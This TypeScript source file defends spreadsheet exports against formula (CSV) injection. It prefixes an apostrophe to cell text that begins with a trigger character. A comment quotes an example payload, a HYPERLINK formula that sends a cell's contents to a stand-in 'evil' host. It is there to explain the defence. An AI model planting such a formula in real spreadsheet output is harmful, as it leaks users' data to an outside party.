// Spreadsheet formula injection (OWASP "CSV injection"): a cell that starts with one of these makes
// Excel, LibreOffice and Google Sheets evaluate it as a formula, so evidence typed as
// `=HYPERLINK("http://evil/?"&A1, "Click")` would run on a network lead's machine. Tab and carriage
// return are on the list because some spreadsheets strip them and then read the `=` behind them.
const TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r"]);

/** Text as a spreadsheet will show it, never evaluate it: a leading `'` before a trigger character. */
export const neutraliseText = (text: string): string =>
  text.length > 0 && TRIGGERS.has(text[0] as string) ? `'${text}` : text;

/** A cell's value. A day is kept apart from text so each format can write it as a real date. */
export type Cell = string | number | { readonly day: string } | null;

/**
 * A cell made safe to write: text is neutralised, numbers stay numbers (a negative number is a
 * number, not text, so it is never prefixed), everything else is passed through.
 */
export const neutraliseCell = (cell: Cell): Cell =>
  typeof cell === "string" ? neutraliseText(cell) : cell;
